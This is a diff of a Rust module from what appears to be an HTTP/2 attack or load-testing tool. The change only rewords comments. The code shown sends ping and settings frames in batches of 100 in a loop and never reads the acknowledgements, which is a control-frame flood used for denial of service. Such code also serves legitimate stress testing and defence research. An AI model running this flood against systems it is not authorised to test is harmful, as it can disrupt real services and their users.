@@ -1,4 +1,4 @@
-//! HTTP/2 frames that mean nothing and have to be answered: pings and settings, as fast as they are taken.
+//! HTTP/2 frames that require an acknowledgement: pings and settings, as fast as the gateway accepts them.
 
 use crate::Aim;
 use crate::attack::Attack;
@@ -7,7 +7,7 @@ use crate::http2::Http2;
 use crate::http2::frame;
 use crate::http2::kind;
 
-/// Frames with one write.
+/// Frames per write.
 const AT_ONCE: usize = 100;
 
 /// The attack.
@@ -28,7 +28,7 @@ async fn run(aim: Aim) {
         let bytes = one.repeat(AT_ONCE);
         let mut round = 0;
         while aim.goes_on(round) {
-            // The answers to them are not read.
+            // Acknowledgements are not read.
             http2.send(&bytes).await?;
             tokio::task::yield_now().await;
             round += 1;
